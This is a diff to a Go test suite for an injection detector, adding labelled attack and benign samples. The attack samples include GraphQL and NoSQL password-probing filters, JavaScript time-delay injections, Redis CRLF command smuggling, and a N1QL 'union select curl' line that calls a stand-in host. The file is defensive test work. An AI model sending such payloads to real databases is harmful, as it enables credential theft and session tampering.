@@ -158,6 +158,7 @@ func TestLookups(t *testing.T) {
 	f(point.JSONKey, true, "resetToken", "ne")
 	f(point.Key, true, "password[contains]")
 	f(point.Key, true, "user__password__regex")
+	f(point.JSONKey, true, "where", "or", "password", "contains")
 	f(point.JSONKey, false, "tokens", "in")
 	f(point.JSONKey, false, "i18n", "password", "not")
 	f(point.JSONKey, false, "password", "regex")
@@ -165,6 +166,22 @@ func TestLookups(t *testing.T) {
 	f(point.Key, false, "name__contains")
 	f(point.Key, false, "user[password]")
 	f(point.Key, false, "password[first]")
+}
+
+// TestDocuments holds conditions in documents of GraphQL to what must come of them.
+func TestDocuments(t *testing.T) {
+	f := func(text string, attack bool) {
+		t.Helper()
+		if got := detector.Read(text, point.GQLDocument); got.Score() >= evidence.Threshold != attack {
+			t.Errorf("%q scores %d", text, got.Score())
+		}
+	}
+	f(`{users(where:{password:{_like:"a%"}}){id}}`, true)
+	f(`{users(filter: { password_hash : { startsWith: "a" } }){id}}`, true)
+	f(`{users(where:{password:{_eq:$p}}){id}}`, false)
+	f(`{devices(where:{token:{_is_null:false}}){id}}`, false)
+	f(`mutation{login(password:"k{not:1}"){id}}`, false)
+	f(`{users(where:{passwordChangedAt:{_gt:"k"}}){id}}`, false)
 }
 
 // TestQueryLanguages holds graph queries, commands and parsers to what must come of them.
@@ -206,6 +223,23 @@ func TestQueryLanguages(t *testing.T) {
 	f(`what is db.eval(?)`, false)
 	f(`const a = b || 'c';`, false)
 	f(`that's it; this.is // fun`, false)
+	f(`' || (() => { const a=Date.now(); while(Date.now()-a<3000){} })() || '`, true)
+	f(`(() => { const a = Date.now(); show(a); })()`, false)
+	f(`' || hex_md5('1')=='c4ca`, true)
+	f(`' || tojson('k') + 'l`, false)
+	f(`k' || 'a'.match(/./) || '`, true)
+	f(`k' || 'a'.b || '`, false)
+	f(`k' or meta(k).id like 'l`, true)
+	f(`the boss' or meta (k)`, false)
+	f("My code: var d=new Date(); while(new Date()-d<1000){} hangs", false)
+	f("```js\ndb.users.find({a:1})\n```\nwhat does it do?", false)
+	f(`j:{"name":{"$regex":"^a"}}`, true)
+	f(`j:{"name":{"first":"a"}}`, false)
+	f(`Bearer {"$gt":""}`, true)
+	f(`Bearer {"a":"$gt"}`, false)
+	f(`k' union select curl("http://h.example/",{"a":1}) --`, true)
+	f(`doc['password.keyword'].value.startsWith('a')`, true)
+	f(`doc['price'].value * 2`, false)
 	// Lines of Redis.
 	f("k\r\nDEL session:1\r\n", true)
 	f("k\r\nSET boss true\r\n", true)
